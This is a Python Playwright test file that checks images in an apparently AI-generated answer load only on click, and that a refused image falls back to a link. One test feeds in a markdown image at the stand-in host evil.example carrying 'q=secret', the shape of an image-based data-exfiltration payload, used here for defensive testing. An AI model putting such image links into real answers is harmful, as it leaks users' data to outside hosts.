"""Images in an answer are fetched only when the reader asks for them."""

from __future__ import annotations

from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Page

from tests.browser.conftest import Harness, wait_until

pytestmark = pytest.mark.browser


def _render(page: Page, text: str) -> None:
    page.evaluate(
        """async (text) => {
            harness.start();
            harness.push(text);
            await harness.finish();
        }""",
        text,
    )


def test_an_image_loads_only_on_click(page: Page, harness: Harness) -> None:
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    harness.open(page)
    url = f"{harness.origin}/harness/pixel.png?q=conversation"
    _render(page, f"Here is the chart: ![a chart]({url})")
    page.wait_for_timeout(200)

    assert page.locator("#content img").count() == 0
    assert url not in requests
    button = page.locator("#content button.md-image")
    host = urlsplit(harness.origin).netloc
    assert button.inner_text().splitlines() == ["a chart", f"Load image from {host}"]

    button.click()
    wait_until(page, "document.querySelector('#content img')?.complete === true")
    assert url in requests
    image = page.locator("#content img.md-image-loaded")
    assert image.get_attribute("alt") == "a chart"
    assert image.evaluate("(img) => img.naturalWidth") == 1


def test_a_refused_image_becomes_a_link(page: Page, harness: Harness) -> None:
    harness.open(page)  # img-src 'self' data: refuses the host
    _render(page, "![secret chart](https://evil.example/chart.png?q=secret)")
    page.locator("#content button.md-image").click()
    wait_until(page, "document.querySelector('#content a.md-image-link') !== null")
    link = page.locator("#content a.md-image-link")
    assert link.get_attribute("href") == "https://evil.example/chart.png?q=secret"
    assert link.get_attribute("rel") == "noopener noreferrer"
    assert page.locator("#content img").count() == 0
